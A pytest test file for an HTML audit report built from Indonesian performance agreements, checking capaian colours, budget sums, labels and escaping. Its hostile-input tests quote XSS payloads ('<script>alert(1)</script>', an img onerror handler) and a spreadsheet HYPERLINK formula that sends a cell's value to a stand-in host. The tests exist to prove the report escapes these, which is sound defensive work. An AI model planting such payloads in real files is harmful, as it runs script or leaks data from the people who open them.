"""The HTML audit report, as a person sees it.

The pipeline runs on the seed corpus, the report is written to ``report.html`` and opened in
headless Chromium (Debian's ``chromium`` package): a screenshot must show a real page (and the
capaian colours), and the DOM after load must hold a dossier heading, a finding with its amounts
and coloured status cells. Without the ``chromium`` binary only the Chromium tests are skipped.

A hostile document (``tests/fixtures/report/hostile_pk.txt``: an indicator named
``<script>alert(1)</script>``, a budget line with an ``<img onerror>``) must show its text and run
nothing.
"""

from __future__ import annotations

import csv
import re
import shutil
import struct
import subprocess
from dataclasses import dataclass, field
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import openpyxl
import pytest

from audit import CHECKS, Family
from emit import write_report
from extract.models import BudgetLine, DocType, Period, Role, Status, budget_tree
from normalize.values import parse_value
from pipeline import RunOptions, run
from pipeline.models import RunResult
from report import render
from report.i18n import EN, ID, LANGUAGES, Labels, labels
from report.view import ReportView, build, target_text
from score import Colour
from store import RunSnapshot, StoreRun
from tests.golden import ROOT
from tests.report.scores import with_capaian
from tests.shared import seed_run

SEEDS = ROOT / "corpus" / "seeds"
HOSTILE = ROOT / "tests" / "fixtures" / "report" / "hostile_pk.txt"
PERBEN = "2024-direktur-jenderal-perbendaharaan"
PERBEN_UNIT = "Direktur Jenderal Perbendaharaan"
WINDOW = (1400, 16000)

# What the score stage would say for four IKU of the Perbendaharaan PK (made up, one per colour).
CAPAIAN = [
    ("1a-CP", Period.Y, "100.00", Colour.HIJAU), ("1b-CP", Period.Q2, "80.00", Colour.KUNING),
    ("2a-CP", Period.Y, "61.54", Colour.MERAH), ("4a-CP", Period.Y, "135.00", Colour.HIJAU),
]


# ---------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def seed_result() -> RunSnapshot:
    return with_capaian(StoreRun(seed_run()), PERBEN, CAPAIAN)


@pytest.fixture(scope="module")
def seed_report(seed_result: RunSnapshot, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_report(seed_result, tmp_path_factory.mktemp("report"))


@pytest.fixture(scope="module")
def seed_view(seed_result: RunSnapshot) -> ReportView:
    return build(seed_result, labels("id"))


@pytest.fixture(scope="module")
def hostile_result(tmp_path_factory: pytest.TempPathFactory) -> RunResult:
    out = tmp_path_factory.mktemp("hostile-run")
    return run([HOSTILE], RunOptions(out=out, executor="inline", use_cache=False))


# ---------------------------------------------------------------- a small DOM


@dataclass
class Element:
    tag: str
    attrs: dict[str, str]
    children: list[Element] = field(default_factory=list)
    text_parts: list[str] = field(default_factory=list)

    @property
    def text(self) -> str:
        return " ".join("".join(self.text_parts).split())

    @property
    def classes(self) -> set[str]:
        return set(self.attrs.get("class", "").split())

    def iter(self) -> list[Element]:
        out = [self]
        for child in self.children:
            out.extend(child.iter())
        return out

    def find_all(self, tag: str, cls: str | None = None) -> list[Element]:
        return [e for e in self.iter() if e.tag == tag and (cls is None or cls in e.classes)]


VOID = {"meta", "br", "col", "img", "input", "hr", "link", "source", "wbr", "area", "base"}


class _DomBuilder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Element("#root", {})
        self.stack = [self.root]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        el = Element(tag, {k: v or "" for k, v in attrs})
        self.stack[-1].children.append(el)
        if tag not in VOID:
            self.stack.append(el)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.stack[-1].children.append(Element(tag, {k: v or "" for k, v in attrs}))

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self.stack) - 1, 0, -1):
            if self.stack[i].tag == tag:
                del self.stack[i:]
                return

    def handle_data(self, data: str) -> None:
        for el in self.stack:
            el.text_parts.append(data)


def dom(html: str) -> Element:
    builder = _DomBuilder()
    builder.feed(html)
    builder.close()
    return builder.root


# ---------------------------------------------------------------- Chromium


def chromium_binary() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


needs_chromium = pytest.mark.skipif(
    chromium_binary() is None, reason="the chromium binary is absent (Debian: apt-get install chromium)"
)


def chromium(tmp: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Headless Chromium with a fresh profile, no network services, no sandbox (CI runs as root)."""
    profile = tmp / f"profile-{len(list(tmp.glob('profile-*')))}"
    profile.mkdir()
    cmd = [
        chromium_binary() or "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
        "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--hide-scrollbars", f"--user-data-dir={profile}", *args,
    ]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=120, check=True)


def dump_dom(tmp: Path, page: Path) -> str:
    return chromium(tmp, "--dump-dom", page.resolve().as_uri()).stdout


def screenshot(tmp: Path, page: Path, png: Path, size: tuple[int, int] = WINDOW) -> Path:
    chromium(tmp, f"--screenshot={png}", f"--window-size={size[0]},{size[1]}", page.resolve().as_uri())
    return png


def png_size(png: Path) -> tuple[int, int]:
    head = png.read_bytes()[:24]
    assert head[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    width, height = struct.unpack(">II", head[16:24])
    return width, height


def pixels(png: Path) -> np.ndarray:
    """The screenshot as an array of 24-bit colours (0xRRGGBB), one per pixel."""
    from PIL import Image  # Pillow comes with pdfplumber

    with Image.open(png) as im:
        rgb = np.asarray(im.convert("RGB"), dtype=np.int32)
    return (rgb[..., 0] << 16) | (rgb[..., 1] << 8) | rgb[..., 2]


def colour_share(packed: np.ndarray, rgb: tuple[int, int, int], tolerance: int = 6) -> float:
    """The share of pixels within ``tolerance`` of ``rgb`` on every channel."""
    near = np.ones(packed.shape, dtype=bool)
    for shift, want in zip((16, 8, 0), rgb, strict=True):
        near &= np.abs(((packed >> shift) & 0xFF) - want) <= tolerance
    return float(near.mean())


HIJAU, KUNING, MERAH = (0x2E, 0x7D, 0x32), (0xF5, 0xC5, 0x18), (0xC6, 0x28, 0x28)


@needs_chromium
def test_screenshot_shows_a_page_with_the_capaian_colours(seed_report: Path, tmp_path: Path) -> None:
    png = screenshot(tmp_path, seed_report, tmp_path / "report.png")
    assert png.exists()
    assert png_size(png) == WINDOW
    assert png.stat().st_size > 100_000, "the screenshot is nearly empty"
    packed = pixels(png)
    assert len(np.unique(packed)) > 200, "the screenshot has hardly any colours: a blank page?"
    assert colour_share(packed, (255, 255, 255)) < 0.95, "the page is nearly all white"
    # the hijau / kuning / merah cells and bars are visible, not only present in the markup
    for colour in (HIJAU, KUNING, MERAH):
        assert colour_share(packed, colour) > 0.0001, f"no {colour} pixels in the screenshot"


@needs_chromium
def test_dom_after_load_has_the_dossier_the_finding_and_coloured_cells(seed_report: Path, tmp_path: Path) -> None:
    root = dom(dump_dom(tmp_path, seed_report))
    assert not root.find_all("script"), "the report must need no script"

    headings = [h.text for h in root.find_all("h2", "dossier-title")]
    assert f"{PERBEN_UNIT} – 2024" in headings
    assert len(headings) == 3

    section = next(s for s in root.find_all("section", "dossier") if s.attrs["id"] == f"dossier-{PERBEN}")
    group = next(g for g in section.find_all("details", "group") if "budget_sum_mismatch" in g.text)
    rows = [r.text for r in group.find_all("tr", "finding")]
    assert any("Rp 79.534.353.000" in r and "Rp 79.524.353.000" in r for r in rows)
    assert any("001_34f370b0fcbb94ab.txt, baris 158" in r for r in rows), "where to look is shown"

    caps = section.find_all("td", "cap")
    assert [(c.attrs["data-status"], c.text) for c in caps] == [
        ("hijau", "100,00% hijau · Tahunan"), ("kuning", "80,00% kuning · TW II"),
        ("merah", "61,54% merah · Tahunan"), ("hijau", "135,00% hijau · Tahunan"),
    ]
    assert all(f"st-{c.attrs['data-status']}" in c.classes for c in caps), "the cell carries its colour class"

    mismatched = [r.text for r in section.find_all("tr", "mismatch")]
    assert any("Program Pengelolaan Perbendaharaan" in r and "Rp -10.000.000" in r for r in mismatched)

    status = [b.text for b in root.find_all("span", "st-ok")]
    assert "baik" in status


@needs_chromium
def test_hostile_text_is_shown_and_runs_nothing(hostile_result: RunResult, tmp_path: Path) -> None:
    page = write_report(hostile_result, tmp_path)
    root = dom(dump_dom(tmp_path, page))
    assert not root.find_all("script")
    assert not root.find_all("img")
    assert "data-pwned" not in (root.find_all("body")[0].attrs)
    names = [td.text for td in root.find_all("td", "name")]
    assert any(n.startswith("<script>alert(1)</script>") for n in names)
    assert any(n.startswith('=HYPERLINK("http://evil.example/?x="&A1,"klik")') for n in names)


# ---------------------------------------------------------------- the markup, without a browser


def test_report_is_one_self_contained_file(seed_report: Path) -> None:
    html = seed_report.read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>")
    assert "<script" not in html.lower()
    assert not re.search(r"<link\b|@import|url\(", html), "no stylesheet or font is fetched"
    assert not re.search(r"""\b(?:src|href)\s*=\s*["'](?!#)""", html), "the only links are in-page anchors"
    assert "<style>" in html and "<svg" in html
    assert "default-src 'none'" in html
    assert list(seed_report.parent.iterdir()) == [seed_report], "no temporary file is left behind"


def test_overview_counts_and_failed_inputs(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    shutil.copy(SEEDS / "001_34f370b0fcbb94ab.txt", inputs)
    (inputs / "kosong.txt").write_text("tidak ada perjanjian di sini\n", encoding="utf-8")
    (inputs / "gambar.png").write_bytes(b"\x89PNG\r\n")
    (inputs / "rusak.pdf").write_bytes(b"%PDF-1.4\n" + b"\x00" * 64)
    result = run([inputs], RunOptions(out=tmp_path / "out", executor="inline", use_cache=False))
    root = dom(render(result))
    tiles = {t.find_all("span", "l")[0].text: t.find_all("span", "n")[0].text for t in root.find_all("div", "tile")}
    assert tiles == {"Berkas masukan": "4", "Dokumen": "4", "baik": "4", "sebagian": "0", "gagal": "1",
                     "dilewati": "2", "Temuan": "5", "Halaman": "–"}
    failed = root.find_all("ul", "failed")[0].text
    assert "rusak.pdf" in failed and "corrupt" in failed
    assert "gambar.png" not in failed and "kosong.txt" not in failed
    inputs_table = root.find_all("table", "inputs")[0].text
    assert "unsupported file type '.png'" in inputs_table
    assert "no performance table (seems to be: narrative text)" in inputs_table
    assert "850 baris" in inputs_table


def test_dossier_sections_follow_the_audit(seed_result: RunSnapshot, seed_view: ReportView) -> None:
    assert [d.dossier_id for d in seed_view.dossiers] == [d.dossier_id for d in seed_result.audit.dossiers]
    perben = next(d for d in seed_view.dossiers if d.dossier_id == PERBEN)
    assert perben.unit == PERBEN_UNIT and perben.year == 2024
    official = next(o for o in perben.officials if o.name == "Astera Primanto Bhakti")
    assert official.nip == "196801201992011003"
    assert official.roles == "pihak pertama, penanda tangan, pegawai"
    assert {g.check: len(g.findings) for g in perben.finding_groups} == {
        "budget_sum_mismatch": 2, "sasaran_name_mismatch": 2, "indicator_name_mismatch": 1,
    }
    assert perben.finding_groups[0].severity == "error", "the worst findings come first"
    assert [(s.family, s.checked, s.passed, s.share_text) for s in perben.scores][:1] == [("anggaran", 3, 1, "33,33%")]
    assert perben.scores[-1].family == "total"


def test_iku_table_reads_period_targets_from_rincian_and_lampiran(seed_view: ReportView) -> None:
    perben = next(d for d in seed_view.dossiers if d.dossier_id == PERBEN)
    assert perben.iku is not None
    assert perben.iku.periods == ("TW I", "TW II", "Smt I", "TW III", "s.d. TW III", "TW IV", "Tahunan")
    row = next(r for r in perben.iku.rows if r.code == "4a-CP")
    assert [t.text for t in row.targets] == ["15,91%", "45,45%", "45,45%", "68,18%", "68,18%", "100%", "100%"]
    assert row.source == "Rincian Target Kinerja"
    assert row.sparkline is not None and len(row.sparkline.dots) == 4
    assert row.capaian is not None and (row.capaian.text, row.capaian.status) == ("135,00%", "hijau")
    opinion = next(r for r in perben.iku.rows if r.code == "2b-CP")
    assert opinion.targets[-1].text == "4 (WTP)" and opinion.targets[0].empty

    djpk = next(d for d in seed_view.dossiers if d.dossier_id == "2024-direktur-jenderal-perimbangan-keuangan")
    assert djpk.iku is not None and djpk.capaian_chart is None and not djpk.iku.has_capaian
    late = next(r for r in djpk.iku.rows if r.code == "7c-N")  # not in the Rincian Target: Lampiran SKP
    assert late.source == "Lampiran SKP"
    assert [t.text for t in late.targets] == ["23%", "46%", "46%", "69%", "69%", "94%", "94%"]
    ratio = next(r for r in djpk.iku.rows if r.code == "3a-N")
    assert ratio.targets[-1].text == "34,94%"


def test_capaian_bars_one_per_scored_iku(seed_view: ReportView) -> None:
    perben = next(d for d in seed_view.dossiers if d.dossier_id == PERBEN)
    chart = perben.capaian_chart
    assert chart is not None
    assert [(b.label, b.value_text, b.status) for b in chart.bars] == [
        ("1a-CP", "100,00%", "hijau"), ("1b-CP", "80,00%", "kuning"), ("2a-CP", "61,54%", "merah"),
        ("4a-CP", "135,00%", "hijau"),
    ]
    assert chart.scale_max == 140
    full = chart.bars[0].width  # 100 %
    assert chart.bars[1].width == pytest.approx(full * 0.8, abs=0.2)
    assert chart.ref_x == pytest.approx(chart.label_width + full, abs=0.2)


def test_capaian_of_the_latest_period_in_the_row_of_its_indicator_when_the_pk_has_no_codes(
        seed_result: RunSnapshot) -> None:
    dki = next(d for d in seed_result.audit.dossiers if "jakarta" in d.dossier_id)
    view = build(with_capaian(seed_result, dki.dossier_id, [("IKU-03", Period.Q2, "101.06", Colour.HIJAU),
                                                             ("IKU-03", Period.Q4, "95.74", Colour.KUNING)]), labels("id"))
    table = next(d for d in view.dossiers if d.dossier_id == dki.dossier_id).iku
    assert table is not None
    cap = table.rows[2].capaian
    assert cap is not None and (cap.text, cap.status, cap.period) == ("95,74%", "kuning", "TW IV"), "latest period"
    assert all(r.capaian is None for i, r in enumerate(table.rows) if i != 2)


def test_budget_tree_sums_and_mismatch(seed_view: ReportView) -> None:
    perben = next(d for d in seed_view.dossiers if d.dossier_id == PERBEN)
    (budget,) = perben.budgets
    programs = [r for r in budget.rows if r.level == "program"]
    assert [(r.amount, r.children_sum, r.difference, r.mismatch) for r in programs] == [
        ("Rp 79.534.353.000", "Rp 79.524.353.000", "Rp -10.000.000", True),
        ("Rp 7.235.932.585.000", "Rp 7.239.932.585.000", "Rp 4.000.000.000", True),
    ]
    assert budget.total == "Rp 7.315.466.938.000" == budget.jumlah_anggaran
    assert not budget.total_mismatch
    djpk = next(d for d in seed_view.dossiers if d.dossier_id == "2024-direktur-jenderal-perimbangan-keuangan")
    rows = djpk.budgets[0].rows
    assert [r.depth for r in rows[:3]] == [0, 1, 2]
    assert not any(r.mismatch for r in rows)


def test_a_budget_line_is_marked_only_where_the_audit_found_it(seed_result: RunSnapshot) -> None:
    """The report draws the audit's findings and derives none of its own: with the dossier's
    budget findings taken away, the same two programmes that do not add up are marked nowhere
    (their sums are still shown)."""
    dossiers = [d.model_copy(update={"findings": [f for f in d.findings if f.check != "budget_sum_mismatch"]})
                for d in seed_result.audit.dossiers]
    quiet = seed_result.model_copy(update={"audit": seed_result.audit.model_copy(update={"dossiers": dossiers})})
    perben = next(d for d in build(quiet, labels("id")).dossiers if d.dossier_id == PERBEN)
    programs = [r for r in perben.budgets[0].rows if r.level == "program"]
    assert [(r.amount, r.children_sum, r.difference, r.mismatch) for r in programs] == [
        ("Rp 79.534.353.000", "Rp 79.524.353.000", None, False),
        ("Rp 7.235.932.585.000", "Rp 7.239.932.585.000", None, False),
    ]


def test_budget_tree_follows_parent_names() -> None:
    def line(level: str, name: str, amount: int, parent: str | None = None) -> BudgetLine:
        return BudgetLine(level=level, name=name, amount=amount, value=parse_value(str(amount)), parent=parent)

    roots = budget_tree([
        line("program", "P1", 10), line("output", "O1", 10, "P1"), line("kegiatan", "K", 4, "O1"),
        line("kegiatan", "K", 6, "O1"), line("program", "P2", 5), line("kegiatan", "K2", 5, "P2"),
        line("inisiatif", "not a tree level", 1),
    ])
    assert [r.line.name for r in roots] == ["P1", "P2"]
    assert [c.line.amount for c in roots[0].children[0].children] == [4, 6]
    assert [c.line.name for c in roots[1].children] == ["K2"], "a kegiatan straight under its program"


def test_english_labels(seed_result: RunSnapshot) -> None:
    html = render(seed_result, lang="en")
    assert '<html lang="en">' in html
    assert "Batch overview" in html and "Ringkasan batch" not in html
    assert "Budget items do not add up to the parent" in html
    assert "135,00%" in html, "numbers keep the Indonesian notation"
    assert "green · Year" in html
    default = render(seed_result)
    assert '<html lang="id">' in default and "Ringkasan batch" in default
    with pytest.raises(ValueError, match="unknown report language"):
        render(seed_result, lang="fr")


def test_both_languages_are_complete() -> None:
    assert set(LANGUAGES) == {"id", "en"}
    for name, value in vars(ID).items():
        other = getattr(EN, name)
        if isinstance(value, str):
            assert value and other, f"{name} is empty"
        else:
            assert set(value) == set(other), f"{name}: the languages name different keys"
            assert all(value.values()) and all(other.values())
    for lb in (ID, EN):
        _names_everything(lb)


def _names_everything(lb: Labels) -> None:
    assert set(CHECKS) == set(lb.checks)
    assert {f.value for f in Family} == set(lb.families)
    assert {s.value for s in Status} <= set(lb.statuses)
    assert {p.value for p in Period} <= set(lb.periods)
    assert {r.value for r in Role} <= set(lb.roles)
    assert {t.value for t in DocType} <= set(lb.doc_types)


def test_hostile_text_is_escaped(hostile_result: RunResult) -> None:
    html = render(hostile_result)
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=&#34;document.body.dataset.pwned=1&#34;&gt;" in html
    assert "Sasaran Tebal &amp; &#34;Kutip&#34;" in html
    names = [td.text for td in dom(html).find_all("td", "name")]
    assert names[0].startswith("<script>alert(1)</script>"), "the text is shown as it was written"


@pytest.mark.parametrize("raw, text", [
    ("34,9 4%", "34,94%"), ("0,23", "0,23"), ("100 (4 skala 5)", "100 (4 skala 5)"), ("4 (WTP)", "4 (WTP)"),
    ("1.250", "1.250"), ("≥ 80%", "≥ 80%"),
])
def test_target_text(raw: str, text: str) -> None:
    assert target_text(parse_value(raw)) == text


def test_an_iku_scored_without_a_capaian_shows_no_cell_and_no_bar(seed_result: RunSnapshot) -> None:
    view = build(with_capaian(seed_result, PERBEN, [("1c-CP", Period.Y, None, None)]), labels("id"))
    perben = next(d for d in view.dossiers if d.dossier_id == PERBEN)
    assert all(r.capaian is None for r in perben.iku.rows)  # type: ignore[union-attr]
    assert perben.capaian_chart is None


def test_capaian_from_the_score_stage(tmp_path: Path) -> None:
    """The score stage's typed results fill the capaian column, value for value as ``scores.csv`` prints them."""
    from score import score_rows

    realisasi = ROOT / "tests" / "data" / "score" / "realisasi_000_pk_djpk_2024.csv"
    result = run([SEEDS / "000_fce74ff394373077.txt"],
                 RunOptions(out=tmp_path, executor="inline", use_cache=False, realisasi=realisasi))
    rows = [r for s in result.scores for r in score_rows(s)]
    (dossier,) = build(result, labels("id")).dossiers
    assert dossier.iku is not None and dossier.iku.has_capaian
    scored = {r.code: (r.capaian.text, r.capaian.status) for r in dossier.iku.rows if r.capaian}
    expected = {(s.key, s.capaian, s.status) for s in rows if s.level == "iku" and s.capaian is not None}
    assert len(scored) == len({k for k, _, _ in expected}) > 0
    for key, capaian, status in expected:
        assert scored[key] == (f"{Decimal(capaian):.2f}".replace(".", ",") + "%", status)
    assert dossier.capaian_chart is not None and len(dossier.capaian_chart.bars) == len(scored)


def test_a_realisation_sheet_reaches_the_measures_the_workbook_and_the_report(tmp_path: Path) -> None:
    """An Evaluasi Renja workbook prints each indicator's realisation per quarter and for the year, and
    its capaian (%): the rows go to ``measures.csv`` and the workbook's Realisasi sheet, and the report's
    IKU table shows the year's realisation and the latest printed capaian beside the targets."""
    xlsx = ROOT / "tests" / "fixtures" / "pdf" / "rendyirawann__esakip-v2__EVALUASI_RENJA_BAPPEDALITBANG_TAHUN_2025.xlsx"
    result = run([xlsx], RunOptions(out=tmp_path, executor="inline", use_cache=False))
    first = "1. Nilai LHE AKIP Perangkat Daerah 2. Indeks Kepuasan Masyarakat (IKM)"
    with open(tmp_path / "tables" / "measures.csv", encoding="utf-8") as fh:
        measures = [(r["measure"], r["period"], r["raw"]) for r in csv.DictReader(fh) if r["indicator_name"] == first]
    assert [m for m in measures if m[0] != "realisasi_rp"] == [
        ("realisasi", "Q1", "15"), ("realisasi", "Q2", "14"), ("realisasi", "Q3", "21"), ("realisasi", "Q4", "50"),
        ("realisasi", "Y", "100"), ("capaian", "Q1", "15%"), ("capaian", "Q2", "28%"), ("capaian", "Q3", "50%"),
        ("capaian", "Q4", "100%")]
    assert ("realisasi_rp", "Q1", "1.854.185.339") in measures  # (the rupiah spent)
    sheet = openpyxl.load_workbook(tmp_path / "kinerja.xlsx", read_only=True)["Realisasi"]
    assert sum(1 for r in sheet.iter_rows(min_row=2, values_only=True) if r[5] == first) == len(measures)
    (dossier,) = build(result, labels("id")).dossiers
    assert dossier.iku is not None and dossier.iku.has_realisasi and dossier.iku.has_printed_capaian
    row = dossier.iku.rows[0]
    assert row.name == first
    assert (row.realisasi.text, row.realisasi.period, row.realisasi.source) == ("100", "Tahunan", "Evaluasi Hasil Renja")  # type: ignore[union-attr]
    assert (row.printed_capaian.text, row.printed_capaian.period) == ("100%", "TW IV")  # type: ignore[union-attr]
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert '<th class="num">Realisasi</th><th class="num">Capaian tertulis</th>' in html
    doc_id = "rendyirawann__esakip-v2__EVALUASI_RENJA_BAPPEDALITBANG_TAHUN_2025--01-evaluasi_renja"
    assert (f'<td class="num" title="{doc_id}">100 <small>Tahunan · Evaluasi Hasil Renja</small></td>\n'
            f'<td class="num" title="{doc_id}">100% <small>TW IV · Evaluasi Hasil Renja</small></td>') in html


def test_a_dossier_without_measurements_shows_no_realisation_columns(seed_view: ReportView, seed_report: Path) -> None:
    assert all(d.iku is None or not (d.iku.has_realisasi or d.iku.has_printed_capaian) for d in seed_view.dossiers)
    assert "Capaian tertulis" not in seed_report.read_text(encoding="utf-8")
